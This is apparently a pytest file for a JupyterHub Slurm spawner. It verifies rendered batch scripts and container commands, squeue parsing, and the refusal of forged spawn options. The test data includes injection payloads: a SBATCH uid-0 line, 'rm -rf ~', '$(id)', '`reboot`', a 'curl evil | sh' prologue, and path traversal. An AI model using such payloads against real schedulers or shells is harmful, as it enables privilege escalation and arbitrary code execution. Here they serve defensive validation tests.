"""The Slurm spawn form, job script and queue answers, without a cluster: what a given
configuration renders (the exact container command), forged choices refused before anything
runs, squeue failures."""

import json
import os
import shlex
from pathlib import Path

import pytest
import yaml
from batchspawner import JobStatus
from helpers.fakes import FakeUser
from jupyterhub import apihandlers
from jupyterhub.objects import Hub
from tornado import web
from traitlets.config import Config, PyFileConfigLoader

from carta_hub.backend import SERVER_CONFIG_ENV
from carta_hub.hub.identity import IdentityError
from carta_hub.hub.slurm.form import FormError
from carta_hub.hub.slurm.jobscript import bind_spec, container_argv
from carta_hub.hub.slurm.spawner import CARTASlurmSpawner, PortOnlyHandler
from carta_hub.hub.slurm.squeue import parse
from carta_hub.hub.storage import CartaStorage

pytestmark = pytest.mark.fast


@pytest.fixture
def make_spawner(tmp_path):
    mapping = tmp_path / "ids.yaml"
    mapping.write_text(
        yaml.safe_dump(
            {
                "alice": {"uid": 2001, "gid": 2001, "home": "/ceph/home/alice", "name": "alice"},
                "bob": {"uid": 2002, "gid": 2002, "home": "/ceph/home/bob", "name": "bob"},
                # forged: a login that ends the `sudo -u` line; a home that adds an #SBATCH line
                "mallory": {
                    "uid": 2003,
                    "gid": 2003,
                    "home": "/ceph/home/mallory",
                    "name": "mallory\n",
                },
                "eve": {"uid": 2004, "gid": 2004, "home": "/ceph/home/eve\n#SBATCH --uid=0"},
            }
        )
    )

    def make(name="alice", **traits):
        c = Config()
        c.IdentityResolver.sources = ["mapping"]
        c.IdentityResolver.mapping_file = str(mapping)
        c.CARTASlurmSpawner.container_image = "/ceph/images/carta-hub.sif"
        c.CARTASlurmSpawner.partitions = ["interactive", "gpu"]
        c.CARTASlurmSpawner.cores = [2, 4, 8]
        c.CARTASlurmSpawner.memory_gb = {"min": 2, "max": 64, "default": 8}
        c.CARTASlurmSpawner.gpus = [0, 1]
        c.CARTASlurmSpawner.runtimes = ["2:00:00", "8:00:00"]
        c.CARTASlurmSpawner.accounts = ["astro"]
        c.CARTASlurmSpawner.qos = ["normal", "teaching"]
        c.CARTASlurmSpawner.mode_choices = ["carta", "lab"]
        c.CARTASlurmSpawner.req_prologue = "module load apptainer/1.3"
        c.CartaStorage.mounts = [
            {"host_path": "/ceph/home/{login}", "mount_path": "/ceph/home/{login}"},
            {"host_path": "/ceph/data", "mount_path": "/ceph/data", "read_only": True},
        ]
        c.CartaBackend.top_level_folder = "/ceph"
        for key, value in traits.items():
            setattr(c.CARTASlurmSpawner, key, value)
        return CARTASlurmSpawner(user=FakeUser(name), config=c)

    return make


async def render(spawner, options):
    """The job script for ``options`` as start() would submit it."""
    spawner._job_names = await spawner._names()
    spawner._job = spawner.validate_resources(options, spawner._job_names)
    spawner.carta_mode = spawner._job.mode
    return await spawner._get_batch_script(keepvars="JUPYTERHUB_API_TOKEN,PATH")


def server_settings(spawner):
    """The settings the job's server gets, in its environment."""
    spawner.hub = Hub()  # what get_env reads of the Hub
    spawner.user_env = lambda env: env  # batchspawner's looks alice up in this host's passwd
    return json.loads(spawner.get_env()[SERVER_CONFIG_ENV])["config"]


def command_line(script):
    lines = [line for line in script.splitlines() if line.startswith("srun ")]
    assert len(lines) == 1, script
    return lines[0]


async def test_apptainer_command_with_gpu(make_spawner):
    spawner = make_spawner()
    options = await spawner.options_from_form(
        {
            "_xsrf": ["x"],
            "partition": ["gpu"],
            "cores": ["4"],
            "memory_gb": ["16"],
            "gpus": ["1"],
            "runtime": ["8:00:00"],
            "account": ["astro"],
            "qos": ["teaching"],
            "folder": ["/ceph/home/alice/obs"],
        }
    )
    script = await render(spawner, options)
    assert command_line(script) == (
        "srun apptainer exec --nv --bind /ceph/home/alice:/ceph/home/alice "
        "--bind /ceph/data:/ceph/data:ro /ceph/images/carta-hub.sif "
        "carta-hub-singleuser"
    )
    assert server_settings(spawner) == {
        "CartaBackend": {"top_level_folder": "/ceph", "starting_folder": "/ceph/home/alice/obs"},
        "CartaSingleUserApp": {"report_port": True},
    }
    for line in (
        "#SBATCH --partition=gpu",
        "#SBATCH --cpus-per-task=4",
        "#SBATCH --mem=16G",
        "#SBATCH --gres=gpu:1",
        "#SBATCH --time=8:00:00",
        "#SBATCH --account=astro",
        "#SBATCH --qos=teaching",
        "#SBATCH --job-name=carta",
        "#SBATCH --output=/dev/null",
        'log=/ceph/home/alice/.carta-hub-slurm-"${SLURM_JOB_ID}".log',
        "#SBATCH --chdir=/ceph/home/alice",
        "module load apptainer/1.3",
    ):
        assert line in script.splitlines()
    assert script.startswith("#!/bin/bash\n")
    # the first command, before anything writes a file
    assert next(ln for ln in script.splitlines() if ln and not ln.startswith("#")) == "umask 077"


async def test_commands_run_with_a_private_umask(make_spawner, tmp_path):
    """sbatch hands its umask to the job (Slurm creates the job's --output file with it):
    the Hub's commands run under umask 077, whatever the Hub's own umask."""
    spawner = make_spawner(exec_prefix="")
    old = os.umask(0o022)
    try:
        assert await spawner.run_command("umask") == "0077"
    finally:
        os.umask(old)


async def test_defaults_without_gpu_and_lab_mode(make_spawner):
    spawner = make_spawner(
        container_runtime="singularity",
        container_args=["--cleanenv"],
        sbatch_options=["--constraint=carta"],
        job_name="carta-{login}",
    )
    script = await render(spawner, {"mode": "lab"})
    assert command_line(script) == (
        "srun singularity exec --bind /ceph/home/alice:/ceph/home/alice "
        "--bind /ceph/data:/ceph/data:ro --cleanenv /ceph/images/carta-hub.sif "
        "batchspawner-singleuser jupyterhub-singleuser"
    )
    assert server_settings(spawner) == {"CartaBackend": {"top_level_folder": "/ceph"}}
    lines = script.splitlines()
    assert "#SBATCH --partition=interactive" in lines and "#SBATCH --mem=8G" in lines
    assert "#SBATCH --constraint=carta" in lines and "#SBATCH --job-name=carta-alice" in lines
    assert not [line for line in lines if "--gres" in line or "--nv" in line]


async def test_bare_runtime(make_spawner):
    spawner = make_spawner(container_runtime="none", req_srun="")
    script = await render(spawner, {})
    line = [ln for ln in script.splitlines() if "carta-hub-singleuser" in ln]
    assert line == ["carta-hub-singleuser"]
    assert server_settings(spawner) == {
        "CartaBackend": {"top_level_folder": "/ceph"},
        "CartaSingleUserApp": {"report_port": True},
    }


async def test_missing_image_is_explained(make_spawner):
    spawner = make_spawner(container_image="")
    with pytest.raises(ValueError, match="container_image"):
        await render(spawner, {})


async def test_form_is_escaped_and_lists_choices(make_spawner):
    spawner = make_spawner(partitions=["a-1", "b.2"])
    html = await spawner.options_form(spawner)
    assert '<option value="b.2">' in html and 'name="memory_gb"' in html
    assert 'min="2" max="64"' in html and 'placeholder="/ceph/home/alice"' in html


FORGED = [
    ({"partition": ["gpu\n#SBATCH --uid=0"]}, "Partition"),
    ({"partition": ["gpu --uid=0"]}, "Partition"),
    ({"cores": ["4; rm -rf ~"]}, "CPU cores"),
    ({"cores": ["$(id)"]}, "CPU cores"),
    ({"cores": ["16"]}, "CPU cores"),
    ({"memory_gb": ["65"]}, "outside 2-64"),
    ({"memory_gb": ["8G"]}, "whole number"),
    ({"memory_gb": ["08"]}, "whole number"),
    ({"runtime": ["99:00:00"]}, "Wall time"),
    ({"account": ["physics"]}, "Account"),
    ({"qos": ["`reboot`"]}, "QoS"),
    ({"gpus": ["2"]}, "GPUs"),
    ({"mode": ["shell"]}, "Interface"),
    ({"folder": ["/ceph/home/bob"]}, "not inside your folders"),
    ({"folder": ["/ceph/home/alice/../bob"]}, "plain absolute path"),
    ({"folder": ["/ceph/home/alice/x y"]}, "plain absolute path"),
    ({"folder": ["/ceph/home/alice\n#SBATCH -p x"]}, "plain absolute path"),
    ({"folder": ["/ceph/home/alicex"]}, "not inside your folders"),
    ({"cores": ["2", "4"]}, "exactly once"),
    ({"prologue": ["curl evil | sh"]}, "Unknown option"),
    ({"cmd": ["bash"]}, "Unknown option"),
]


@pytest.mark.parametrize("form,message", FORGED)
async def test_forged_form_refused(make_spawner, form, message):
    spawner = make_spawner()
    with pytest.raises(FormError, match=message):
        await spawner.options_from_form(form)


@pytest.mark.parametrize(
    "options",
    [
        {"cores": 16},
        {"cores": True},
        {"cores": None},
        {"gpus": [1]},
        {"partition": ["gpu"]},
        {"folder": "/ceph/home/bob"},
        {"exec_prefix": "sh -c id"},
        ["cores"],
    ],
)
async def test_forged_api_options_refused(make_spawner, options):
    """REST API user_options skip the form: the apply hook and start() check them too."""
    spawner = make_spawner()
    with pytest.raises(web.HTTPError) as info:
        await spawner.apply_user_options(spawner, options)
    assert info.value.status_code == 400
    if isinstance(options, dict):
        spawner.user_options = options
        with pytest.raises(FormError):
            await spawner.start()
        assert not spawner.job_id


async def test_valid_api_options_accepted(make_spawner):
    spawner = make_spawner()
    await spawner.apply_user_options(spawner, {"cores": 8, "memory_gb": 32, "gpus": 1})


@pytest.mark.parametrize(
    "name, message",
    [("mallory", "is not a valid login name"), ("eve", "is not a plain absolute path")],
)
async def test_unsafe_identity_submits_nothing(make_spawner, monkeypatch, name, message):
    """The spawn page shows why (403, not a bare 500), the REST API answers 400, start()
    runs no command."""
    spawner = make_spawner(name)
    commands = []

    async def run_command(cmd, input=None, env=None):
        commands.append(cmd)
        return "1"

    monkeypatch.setattr(spawner, "run_command", run_command)
    with pytest.raises(web.HTTPError) as page:
        await spawner.options_form(spawner)
    assert page.value.status_code == 403 and message in str(page.value)
    with pytest.raises(IdentityError, match=message):
        await spawner.options_from_form({"cores": ["2"]})
    with pytest.raises(web.HTTPError) as api:
        await spawner.apply_user_options(spawner, {})
    assert api.value.status_code == 400 and message in api.value.log_message
    with pytest.raises(IdentityError, match=message):
        await spawner.start()
    assert not commands and not spawner.job_id


async def test_command_templates_get_quoted_values(make_spawner, tmp_path):
    """batchspawner runs exec_prefix and batch_cancel_cmd in a shell: a login that was never
    validated (e.g. restored from the Hub's database) stays one word."""
    out, pwned = tmp_path / "out", tmp_path / "pwned"
    spawner = make_spawner(
        exec_prefix=f"printf '%s' {{username}} >{out};", batch_cancel_cmd="true {job_id}"
    )
    spawner.job_id, spawner.req_homedir, spawner.req_keepvars = "7", "/ceph/home/alice", "PATH"
    spawner.req_username = f"alice$(touch {pwned})\nid;`id`"
    await spawner.cancel_batch_job()
    assert out.read_text() == spawner.req_username and not pwned.exists()


def test_bind_paths_checked():
    assert bind_spec({"source": "/a", "target": "/b", "read_only": True}) == "/a:/b:ro"
    for bad in ("/a:/etc", "/a,/b", "relative", "/a b"):
        with pytest.raises(ValueError):
            bind_spec({"source": bad, "target": "/x"})
    assert container_argv("none", "", [{"source": "/a", "target": "/a"}], 1) == []


def test_batchspawner_api_accepts_only_the_port():
    routes = [h for h in apihandlers.default_handlers if h[0] == r"/api/batchspawner"]
    assert routes and all(h[1] is PortOnlyHandler for h in routes)


def test_operator_values_checked(make_spawner):
    with pytest.raises(Exception, match="Slurm name"):
        make_spawner(partitions=["gpu\n#SBATCH --uid=0"])
    with pytest.raises(Exception, match="HH:MM:SS"):
        make_spawner(runtimes=["2h"])
    with pytest.raises(Exception, match="min <= default <= max"):
        make_spawner(cores={"min": 4, "max": 2})
    with pytest.raises(Exception, match="only %j, %u, %x and %% are supported"):
        make_spawner(log_path="/ceph/logs/%N-%j.log")


async def test_log_path_in_the_shell_is_quoted(make_spawner):
    spawner = make_spawner(log_path="/ceph/logs/{login} $(id)/%x-%j-100%%.log")
    script = await render(spawner, {})
    assert "log='/ceph/logs/alice $(id)/carta-'\"${SLURM_JOB_ID}\"-100%.log\n" in script


def test_script_quotes_the_command(make_spawner):
    spawner = make_spawner(container_runtime="none")
    spawner.cmd = ["/opt/my venv/bin/carta-hub-singleuser"]
    spawner._job = spawner.validate_resources(
        {}, {"username": "alice", "login": "alice", "home": "/h", "uid": 1}
    )
    assert (
        shlex.split(spawner.cmd_formatted_for_batch())[0] == "/opt/my venv/bin/carta-hub-singleuser"
    )


CONFIGS = Path(__file__).parent.parent / "jupyterhub_config"


@pytest.mark.parametrize("name", ["slurm-pam.py", "slurm-ldap.py"])
def test_shipped_configs_load(name, monkeypatch):
    if name == "slurm-ldap.py" and not (CONFIGS / "auth-ldap.py").exists():
        pytest.skip("auth-ldap.py not in this tree")
    monkeypatch.setenv("JUPYTERHUB_CRYPT_KEY", "0" * 64)
    config = PyFileConfigLoader(name, path=str(CONFIGS)).load_config()
    assert config.JupyterHub.spawner_class == "carta-slurm"
    assert config.JupyterHub.cleanup_servers is False
    spawner = CARTASlurmSpawner(user=FakeUser("alice"), config=config)  # operator values checked
    assert spawner.container_runtime == "apptainer" and spawner.container_image.endswith(".sif")
    assert spawner.partitions and spawner.runtimes
    assert CartaStorage(config=config).mounts


@pytest.mark.parametrize(
    "stderr,code,expected",
    [
        ("slurm_load_jobs error: Unable to contact slurm controller (connect failure)", 1, None),
        ("slurm_load_jobs error: Invalid job id specified", 1, 1),
        ("", 0, 1),  # not listed any more
    ],
)
async def test_poll_when_squeue_fails_or_forgets(make_spawner, tmp_path, stderr, code, expected):
    """A controller outage keeps the server; a job Slurm no longer knows is gone."""
    fake = tmp_path / "squeue"
    fake.write_text(f"#!/bin/sh\necho '{stderr}' >&2\nexit {code}\n")
    fake.chmod(0o755)
    spawner = make_spawner(squeue_command=str(fake))
    spawner.load_state({"job_id": "12"})
    assert await spawner.poll() == expected


def test_squeue_lines_parsed():
    jobs = parse(
        "7 PENDING n/a N/A N/A ReqNodeNotAvail, UnavailableNodes:c1\n"
        "8 RUNNING c042 1700000000 1700001800 None\n"
        "9 PENDING n/a 1700003600 1700005400 Resources\n"
    )
    assert jobs["7"].status == JobStatus.PENDING and jobs["7"].node == ""
    assert jobs["7"].reason == "ReqNodeNotAvail, UnavailableNodes:c1"
    assert jobs["7"].start_time is None and jobs["7"].end_time is None
    assert jobs["8"].status == JobStatus.RUNNING and jobs["8"].status_line == "RUNNING c042"
    assert (jobs["8"].start_time, jobs["8"].end_time) == (1700000000, 1700001800)
    assert jobs["9"].start_time == 1700003600 and jobs["9"].reason == "Resources"


def test_state_keeps_the_login(make_spawner):
    spawner = make_spawner()
    spawner.job_id, spawner.req_username = "42", "alice-login"
    restarted = make_spawner()
    restarted.load_state(spawner.get_state())
    assert (restarted.job_id, restarted.req_username) == ("42", "alice-login")


async def test_batch_script_is_the_job_template(make_spawner):
    """batchspawner's batch_script holds the job script's template (it was ignored)."""
    spawner = make_spawner(
        container_runtime="none",
        req_srun="",
        batch_script=("#!/bin/bash\n#SBATCH --cpus-per-task={{ res.cores }}\n{{ command }}\n"),
    )
    script = await render(spawner, {"cores": "8"})
    assert script == (
        f"#!/bin/bash\n#SBATCH --cpus-per-task=8\n{shlex.join(spawner.server_argv())}\n"
    )
